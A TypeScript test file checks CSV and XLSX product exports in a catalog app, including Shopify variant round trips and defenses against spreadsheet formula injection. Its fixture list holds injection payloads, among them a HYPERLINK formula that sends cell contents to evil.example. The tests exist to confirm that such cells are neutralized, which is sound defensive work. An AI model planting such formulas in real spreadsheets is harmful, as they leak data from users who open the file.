// Export round trips: the CSV read back with csv-parse, the XLSX with the app's own XLSX reader, on a
// real Shopify export (variants) and on a catalog whose cells try formula injection.
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CatalogService } from '../../../electron/engine/catalog-service.ts';
import { openSource } from '../../../electron/engine/catalog/source.ts';
import { ExportLayout } from '../../../electron/engine/export/cells.ts';
import type { ExportRequest } from '../../../shared/health.ts';
import type { Product } from '../../../shared/types.ts';
import { countingModels, importInto, meter, tempDir } from '../helpers.ts';

const SHOPIFY = path.resolve(import.meta.dirname, '../../../e2e/fixtures/exports/shopify-products.csv');

type Record_ = Record<string, string>;

function readCsv(file: string): Record_[] {
  return parse(fs.readFileSync(file), { bom: true, columns: true }) as Record_[];
}

/** The XLSX read back by the importer's reader, every value as the text a CSV would hold. */
async function readXlsx(file: string): Promise<Record_[]> {
  const source = await openSource(file);
  const out: Record_[] = [];
  try {
    for await (const r of source.records()) {
      out.push(
        Object.fromEntries(
          source.columns.map((c) => [
            c,
            r.values[c] === null || r.values[c] === undefined ? '' : String(r.values[c]),
          ]),
        ),
      );
    }
  } finally {
    await source.close();
  }
  return out;
}

const request = (out: string, more: Partial<ExportRequest> = {}): ExportRequest => ({
  out,
  query: '',
  mode: 'hybrid',
  filters: {},
  limit: 1000,
  variants: 'rows',
  ...more,
});

describe('export of a real Shopify catalog with variants', () => {
  const dir = tempDir('export-');
  let catalog: CatalogService;
  let products: Product[];

  beforeAll(async () => {
    catalog = CatalogService.open(path.join(dir, 'shop'), countingModels().models, { create: true });
    await importInto(catalog, SHOPIFY, { index: false });
    const ids = catalog.handle.reader
      .prepare('SELECT id FROM products ORDER BY name, rowid')
      .pluck()
      .all() as string[];
    products = ids.map((id) => catalog.getProduct(id) as Product);
  }, 60_000);
  afterAll(() => catalog?.close());

  it('writes one row per variant under its product, as CSV in UTF-8 with a BOM', async () => {
    const out = path.join(dir, 'shop.csv');
    const result = await catalog.exportProducts(request(out), meter());
    expect([...fs.readFileSync(out).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = readCsv(out);
    const expected = products.flatMap((p) =>
      p.variants.length
        ? p.variants.map((v) => ({ id: p.id, variant: v.id, options: v.options }))
        : [{ id: p.id, variant: '', options: {} }],
    );
    expect(expected.some((e) => e.variant !== '')).toBe(true);
    expect(rows.map((r) => [r.id, r['variant id']])).toEqual(expected.map((e) => [e.id, e.variant]));
    rows.forEach((r, i) => {
      for (const [name, value] of Object.entries(expected[i].options))
        expect(r[`option ${name}`]).toBe(value);
    });
    expect(result).toMatchObject({ format: 'csv', products: products.length, rows: expected.length });
  });

  it('nests variants in one cell of the product row when asked', async () => {
    const out = path.join(dir, 'nested.csv');
    await catalog.exportProducts(request(out, { variants: 'nested' }), meter());
    const rows = readCsv(out);
    expect(rows.map((r) => r.id)).toEqual(products.map((p) => p.id));
    rows.forEach((r, i) => {
      for (const v of products[i].variants) expect(r.variants).toContain(v.id);
    });
    expect(Object.keys(rows[0])).not.toContain('variant id');
  });

  it('writes the same table as XLSX, which the app reads back', async () => {
    const csv = path.join(dir, 'shop.csv');
    const xlsx = path.join(dir, 'shop.xlsx');
    const result = await catalog.exportProducts(request(xlsx), meter());
    expect(result.format).toBe('xlsx');
    expect(await readXlsx(xlsx)).toEqual(readCsv(csv));
  });

  it('exports a query as ranked by the search, and a filter as the search lists it', async () => {
    const search = await catalog.search({ query: 'shirt', mode: 'keyword', limit: 1000, filters: {} });
    expect(search.hits.length).toBeGreaterThan(0);
    const out = path.join(dir, 'query.csv');
    await catalog.exportProducts(
      request(out, { query: 'shirt', mode: 'keyword', variants: 'nested' }),
      meter(),
    );
    expect(readCsv(out).map((r) => r.id)).toEqual(search.hits.map((h) => h.id));

    const filters = { categories: [products[0].category as string] };
    const listed = await catalog.search({ query: '', mode: 'hybrid', limit: 1000, filters });
    await catalog.exportProducts(request(out, { filters, variants: 'nested' }), meter());
    expect(readCsv(out).map((r) => r.id)).toEqual(listed.hits.map((h) => h.id));
  });

  it('exports an Insights list as the view shows it, the queries people typed made safe', async () => {
    const search = (query: string) =>
      catalog.search({ query, mode: 'keyword', limit: 10, filters: {} }, { record: true });
    for (const q of ['=HYPERLINK("http://x")', 'shirt', '=HYPERLINK("http://x")', 'zzqx']) await search(q);
    catalog.queryLog.flush();
    const shown = catalog.insights().top;
    expect(shown.length).toBe(3);
    for (const format of ['csv', 'xlsx'] as const) {
      const out = path.join(dir, `top.${format}`);
      const result = await catalog.exportProducts(request(out, { report: 'top' }), meter());
      expect(result).toMatchObject({ products: shown.length, rows: shown.length });
      const rows = format === 'csv' ? readCsv(out) : await readXlsx(out);
      expect(rows.map((r) => [r.query, r.searches, r['last seen']])).toEqual(
        shown.map((s) => [/^=/.test(s.query) ? `'${s.query}` : s.query, String(s.count), s.lastAt]),
      );
      expect(rows[0]).toMatchObject({ query: `'=HYPERLINK("http://x")`, searches: '2', mode: 'keyword' });
    }
  });

  it('leaves no file behind when cancelled, and refuses a file type it cannot write', async () => {
    const out = path.join(dir, 'cancelled.csv');
    const abort = new AbortController();
    abort.abort();
    await expect(catalog.exportProducts(request(out), meter(), abort.signal)).rejects.toMatchObject({
      code: 'cancelled',
    });
    expect(fs.readdirSync(dir).filter((f) => f.startsWith('cancelled'))).toEqual([]);
    await expect(catalog.exportProducts(request(path.join(dir, 'x.txt')), meter())).rejects.toThrow(
      /must end in \.csv or \.xlsx/,
    );
  });
});

describe('export of cells that try formula injection', () => {
  const dir = tempDir('export-inject-');
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+SUM(1,2)',
    '-2+3',
    '@cmd',
    '\tTabbed',
    '\rReturn',
  ];
  let catalog: CatalogService;

  beforeAll(async () => {
    const file = path.join(dir, 'hostile.csv');
    const rows = hostile.map((name, i) => ({
      id: `H${i + 1}`,
      name,
      description: i === 0 ? '=1+1 in the description' : 'A plain description',
      price: String(10 + i),
      '=evil': i === 1 ? '@attr' : 'plain',
    }));
    rows.push({
      id: 'H7',
      name: 'Plain name',
      description: 'A plain description',
      price: '7',
      '=evil': 'x=1',
    });
    fs.writeFileSync(file, stringify(rows, { header: true }));
    catalog = CatalogService.open(path.join(dir, 'c'), countingModels().models, { create: true });
    await importInto(catalog, file, { index: false });
  }, 60_000);
  afterAll(() => catalog?.close());

  /**
   * What a safe export must hold for each stored name: prefixed when a spreadsheet would run it. The
   * import trims the tab and the carriage return off a name; the cell rule for those is checked on rows
   * built directly below.
   */
  function expectSafe(rows: Record_[]) {
    const byId = new Map(rows.map((r) => [r.id, r]));
    hostile.forEach((_, i) => {
      const stored = (catalog.getProduct(`H${i + 1}`) as Product).name;
      expect(byId.get(`H${i + 1}`)?.name).toBe(/^[=+\-@]/.test(stored) ? `'${stored}` : stored);
    });
    expect(hostile.slice(0, 4).every((h, i) => byId.get(`H${i + 1}`)?.name === `'${h}`)).toBe(true);
    expect(byId.get('H1')?.description).toBe("'=1+1 in the description");
    expect(byId.get('H2')?.["'=evil"]).toBe("'@attr");
    expect(byId.get('H7')).toMatchObject({ name: 'Plain name', "'=evil": 'x=1', price: '7' });
  }

  it('prefixes a cell starting with a tab or a carriage return too', () => {
    const layout = new ExportLayout({
      attributes: ['note'],
      options: [],
      variants: 'nested',
      finding: false,
    });
    const row = {
      ...(catalog.getProduct('H7') as Product),
      rowid: 7,
      variantCount: 0,
      attributes: JSON.stringify({ note: '\tcmd' }),
      description: '\r=1+1',
    };
    const [cells] = layout.rows({ row, variants: [] });
    const at = (h: string) => cells[layout.headers.indexOf(h)];
    expect([at('note'), at('description'), at('name'), at('price')]).toEqual([
      "'\tcmd",
      "'\r=1+1",
      'Plain name',
      7,
    ]);
  });

  it('prefixes them in the CSV', async () => {
    const out = path.join(dir, 'hostile.csv.out.csv');
    await catalog.exportProducts(request(out), meter());
    expectSafe(readCsv(out));
  });

  it('prefixes them in the XLSX, whose numbers stay numbers', async () => {
    const out = path.join(dir, 'hostile.xlsx');
    await catalog.exportProducts(request(out), meter());
    expectSafe(await readXlsx(out));
    const source = await openSource(out);
    const prices: unknown[] = [];
    for await (const r of source.records()) prices.push(r.values.price);
    expect(prices.every((p) => typeof p === 'number')).toBe(true);
  });
});
